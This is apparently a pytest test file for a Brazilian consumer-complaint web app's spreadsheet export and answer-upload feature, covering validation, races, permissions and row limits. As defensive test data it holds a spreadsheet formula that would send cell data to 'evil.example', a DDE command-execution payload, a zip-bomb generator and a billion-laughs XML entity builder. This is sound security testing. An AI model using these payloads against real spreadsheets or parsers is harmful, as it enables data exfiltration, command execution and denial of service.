"""Answering from a spreadsheet: checked row by row, sent by the same command, never computed."""

from __future__ import annotations

import asyncio
import csv
import io
import re
import time
import zipfile
from typing import Any
from uuid import uuid4

import httpx
import openpyxl
import pytest

from cases.cases_support import answered, errors_of, issued, status_of, words
from companies.companies_support import OTHER_CNPJ, invited, member
from procon.answers.queries import answers_of_case
from procon.answers.sheet.jobs import clean, handlers
from procon.answers.sheet.reading import MOST_ROWS, read_sheet
from procon.answers.sheet.writing import HEADER, as_xlsx, safe
from procon.auth.actor import Actor
from procon.jobs.outbox import drain
from procon.kernel.errors import Invalid
from procon.settings import Settings
from support.cities import City, MovingClock, citizen, filed, supplier
from support.web import Web

BASE = "/fornecedor/planilha"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
Rows = list[tuple[Any, ...]]


def book(rows: Rows, header: tuple[str, ...] = ("Processo", "Resposta")) -> bytes:
    """A workbook as a person saves it."""
    made = openpyxl.Workbook()
    sheet = made.active
    assert sheet is not None
    for row in (header, *rows):
        sheet.append(row)
    kept = io.BytesIO()
    made.save(kept)
    return kept.getvalue()


async def send(
    web: Web, city: City, body: bytes, *, actor: Actor | None = None, name: str = "r.xlsx"
) -> httpx.Response:
    files = {"planilha": (name, io.BytesIO(body), XLSX)}
    return await web.post(city, BASE, {}, actor=actor or supplier(), files=files)


async def report(web: Web, city: City, sent: httpx.Response, actor: Actor) -> str:
    assert sent.status_code == 303, sent.text
    page = await web.get(city, sent.headers["Location"], actor=actor)
    assert page.status_code == 200
    return page.text


def rows_in(page: str) -> list[list[str]]:
    """Line, case and sentence of each row that is left out."""
    body = re.search(r"<tbody.*?</tbody>", page, re.DOTALL)
    rows = re.findall(r"<tr.*?</tr>", body.group(0), re.DOTALL) if body else []
    return [[words(cell, r".*") for cell in re.findall(r"<t[hd].*?</t[hd]>", row)] for row in rows]


async def answers(city: City, case: Any) -> list[str]:
    async with city.scope() as tx:
        return [one.text for one in await answers_of_case(tx, case.id)]


async def test_the_sheet_goes_out_and_comes_back(
    web: Web, city: City, other: City, settings: Settings
) -> None:
    me = supplier()
    first, second, silent = [await filed(city) for _ in range(3)]
    foreign, elsewhere = await filed(city, cnpj=OTHER_CNPJ), await filed(other)
    for where, case in (
        (city, first), (city, second), (city, silent), (city, foreign), (other, elsewhere)
    ):  # fmt: skip
        await issued(where, case, settings)
    out = await web.get(city, f"{BASE}/processos.xlsx", actor=me)
    assert (out.status_code, out.headers["Content-Type"]) == (200, XLSX)
    sheet = openpyxl.load_workbook(io.BytesIO(out.content)).worksheets[0]
    table = [[cell.value for cell in row] for row in sheet.iter_rows()]
    assert tuple(table[0]) == HEADER
    assert [row[0] for row in table[1:]] == [first.number, second.number, silent.number]
    sheet.cell(2, len(HEADER)).value = "Entregamos na sexta."
    sheet.cell(3, len(HEADER)).value = "Dinheiro devolvido."
    kept = io.BytesIO()
    sheet.parent.save(kept)
    sent = await send(web, city, kept.getvalue(), actor=me)
    page = await report(web, city, sent, me)
    assert "Confirme para responder a 2 processos." in words(page)
    # A dry run: nothing has happened.
    assert [await status_of(city, one) for one in (first, second)] == [("cip_issued", "")] * 2
    address = sent.headers["Location"]
    for _ in range(2):
        confirmed = await web.post(city, f"{address}/enviar", actor=me)
        assert confirmed.status_code == 303
    for _ in range(2):
        await drain(city.db, city.tenant, handlers())
    assert await answers(city, first) == ["Entregamos na sexta."]
    assert await answers(city, second) == ["Dinheiro devolvido."]
    assert await status_of(city, silent) == ("cip_issued", "")
    assert await status_of(other, elsewhere) == ("cip_issued", "")
    done = words((await web.get(city, address, actor=me)).text)
    assert "Situação Terminada Respondidos 2" in done
    stranger = await web.get(city, address, actor=supplier())
    assert stranger.status_code == 404


async def test_each_wrong_row_says_its_number_and_why(
    web: Web, city: City, other: City, settings: Settings
) -> None:
    me = supplier()
    good, done = await filed(city), await filed(city)
    foreign = await filed(city, cnpj=OTHER_CNPJ)
    for case in (good, done, foreign):
        await issued(city, case, settings)
    await answered(city, done)
    body = book(
        [
            (good.number, "Primeira."),
            (foreign.number, "Não é nosso."),
            ("2026.999999-9", "Não existe."),
            (None, "Sem número."),
            (done.number, "De novo."),
            ("", ""),
            (good.number, "Segunda."),
            (good.number, None),
            (done.number, "x" * 20_001),
        ]
    )
    page = await report(web, city, await send(web, city, body, actor=me), me)
    missing = "Processo não encontrado. Confira o número na coluna Processo."
    waiting = "Este processo não espera uma resposta agora (Respondido, falta a avaliação)."
    assert rows_in(page) == [
        ["3", foreign.number, missing],
        ["4", "2026.999999-9", missing],
        ["5", "em branco", missing],
        ["6", done.number, waiting],
        ["8", good.number, "Este processo já está na linha 2. Deixe só uma resposta."],
        ["10", done.number, waiting],
    ]
    assert "Confirme para responder a 1 processo." in words(page)


async def test_two_answers_for_one_case_at_once_give_one(
    web: Web, city: City, settings: Settings
) -> None:
    """Two sheets race for one case: the first stands, the other is told."""
    me = supplier()
    case = await filed(city)
    await issued(city, case, settings)
    sheets = [
        (await send(web, city, book([(case.number, text)]), actor=me)).headers["Location"]
        for text in ("Uma.", "Outra.")
    ]
    for address in sheets:
        await web.post(city, f"{address}/enviar", actor=me)
    await asyncio.gather(*(drain(city.db, city.tenant, handlers()) for _ in range(2)))
    assert len(await answers(city, case)) == 1
    pages = [words((await web.get(city, one, actor=me)).text) for one in sheets]
    assert sorted("Respondidos 1" in page for page in pages) == [False, True]
    assert sorted("Não aceitos no envio 1" in page for page in pages) == [False, True]


async def test_formulas_stay_what_was_typed(web: Web, city: City, settings: Settings) -> None:
    me = supplier()
    case = await filed(city)
    await issued(city, case, settings)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"clique")'
    sent = await send(web, city, book([(case.number, formula)]), actor=me)
    await web.post(city, f"{sent.headers['Location']}/enviar", actor=me)
    await drain(city.db, city.tenant, handlers())
    assert await answers(city, case) == [formula]


async def test_what_a_consumer_wrote_is_no_formula_in_the_export(
    web: Web, city: City, settings: Settings
) -> None:
    evil = "=cmd|' /C calc'!A0"
    case = await filed(city, actor=citizen(name="@SUM(1)"), narrative=evil)
    await issued(city, case, settings)
    plain = await web.get(city, f"{BASE}/processos.csv", actor=supplier())
    table = list(csv.reader(io.StringIO(plain.content.decode("utf-8-sig")), delimiter=";"))
    assert (table[1][1], table[1][5]) == ("'@SUM(1)", f"'{evil}")
    workbook = await web.get(city, f"{BASE}/processos.xlsx", actor=supplier())
    cells = [c for row in openpyxl.load_workbook(io.BytesIO(workbook.content)).active for c in row]
    assert [cell.value for cell in cells if cell.data_type == "f"] == []
    assert f"'{evil}" in [cell.value for cell in cells]


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@x", "\t=1", "\r=1", "  =1", "|x"])
def test_every_beginning_of_a_formula_is_made_text(text: str) -> None:
    assert safe(text) == f"'{text}"
    assert safe(f"a{text}") == f"a{text}"


async def test_ten_thousand_rows_are_checked_and_one_more_is_not(
    web: Web, city: City, settings: Settings
) -> None:
    me = supplier()
    case = await filed(city)
    await issued(city, case, settings)
    filler = [("2026.999999-9", "Resposta.")] * (MOST_ROWS - 1)
    started = time.monotonic()
    sent = await send(web, city, book([*filler, (case.number, "Boa.")]), actor=me)
    page = words(await report(web, city, sent, me))
    assert time.monotonic() - started < 60
    assert "Linhas com erro 9999" in page
    assert "Confirme para responder a 1 processo." in page
    assert "E mais 9499 linhas." in page
    long = await send(web, city, book([*filler, *filler[:2]]), actor=me)
    assert errors_of(long.text) == [
        (
            "planilha",
            "A planilha tem mais de 10.000 linhas. Divida em planilhas menores e envie uma de cada"
            " vez.",
        )
    ]


def bomb() -> bytes:
    """Small outside, large inside."""
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (80 * 1024 * 1024))
    return kept.getvalue()


def laughing() -> bytes:
    """A sheet whose XML names entities that unfold without end."""
    entities = '<!ENTITY a0 "ha">' + "".join(
        f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12)
    )
    whole = zipfile.ZipFile(io.BytesIO(book([("x", "y")])))
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in whole.namelist():
            text = whole.read(name)
            if name == "xl/worksheets/sheet1.xml":
                head = f"<!DOCTYPE worksheet [{entities}]>".encode()
                text = head + re.sub(rb"<\?xml.*?\?>", b"", text).replace(b"x", b"&a11;", 1)
            archive.writestr(name, text)
    return kept.getvalue()


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"PK\x03\x04 no archive",
        b"x" * (10 * 1024 * 1024 + 1),
        bomb(),
        laughing(),
        as_xlsx([])[:2000],
        b"\x00\x01\x02\xff",
        b"Processo;Outra\r\n1;2\r\n",
        b'Processo;Resposta\r\n1;"aberta',
        b"Processo;Resposta\r\n",
        book([("2026.000001-4", "x")], header=("Numero", "Texto")),
    ],
    ids=["empty", "cut zip", "large", "bomb", "entities", "half", "bytes", "no column", "quote",
         "no row", "other header"],
)  # fmt: skip
async def test_a_file_that_cannot_be_used_is_refused_in_words(
    web: Web, city: City, body: bytes
) -> None:
    page = await send(web, city, body)
    assert (page.status_code, [field for field, _ in errors_of(page.text)]) == (422, ["planilha"])
    async with city.scope() as tx:
        assert await tx.fetchval("SELECT count(*) FROM answer_sheet") == 0


@pytest.mark.parametrize("coding", ["utf-8-sig", "cp1252"])
@pytest.mark.parametrize("delimiter", [";", ",", "\t"])
def test_csv_as_spreadsheets_save_it(coding: str, delimiter: str) -> None:
    text = delimiter.join(("Processo", "Consumidor", "RESPOSTA")) + "\r\n"
    text += delimiter.join(("2026.1", "Ana", '"Solução\r\nem duas linhas"')) + "\r\n"
    (line,) = read_sheet(io.BytesIO(text.encode(coding)))
    assert (line.number, line.text) == ("2026.1", "Solução\r\nem duas linhas")


def test_a_locked_or_strange_archive_is_no_sheet() -> None:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        for number in range(400):
            archive.writestr(f"part{number}", b"x")
    kept.seek(0)
    with pytest.raises(Invalid):
        read_sheet(kept)


async def test_readers_and_strangers_send_no_sheet(
    web: Web, city: City, settings: Settings
) -> None:
    case = await filed(city)
    await issued(city, case, settings)
    await invited(web, city, "reads")
    me = member()
    sent = await send(web, city, book([(case.number, "Oi.")]), actor=me)
    page = await report(web, city, sent, me)
    assert rows_in(page) == [["2", case.number, "A sua função nesta empresa é só de leitura."]]
    refused = await web.post(city, f"{sent.headers['Location']}/enviar", actor=me)
    assert refused.status_code == 303
    await drain(city.db, city.tenant, handlers())
    assert await status_of(city, case) == ("cip_issued", "")
    by_code = await send(web, city, book([(case.number, "Oi.")]), actor=supplier(case_id=case.id))
    assert by_code.status_code == 403
    assert (await web.get(city, f"{BASE}/{uuid4()}", actor=me)).status_code == 404


async def test_who_is_taken_out_before_the_sending_answers_nothing(
    web: Web, city: City, settings: Settings
) -> None:
    case = await filed(city)
    await issued(city, case, settings)
    member_id = await invited(web, city, "answers")
    me = member()
    sent = await send(web, city, book([(case.number, "Oi.")]), actor=me)
    await web.post(city, f"{sent.headers['Location']}/enviar", actor=me)
    await web.post(city, f"/fornecedor/empresa/pessoas/{member_id}/retirar", actor=supplier())
    await drain(city.db, city.tenant, handlers())
    assert await status_of(city, case) == ("cip_issued", "")


async def test_sheets_are_forgotten(
    web: Web, city: City, settings: Settings, clock: MovingClock
) -> None:
    case = await filed(city)
    await issued(city, case, settings)
    await send(web, city, book([(case.number, "Oi.")]))
    assert await clean(city.db, city.tenant) == 0
    clock.forward(hours=25)
    assert await clean(city.db, city.tenant) == 1
    async with city.scope() as tx:
        assert await tx.fetchval("SELECT count(*) FROM answer_sheet_row") == 0
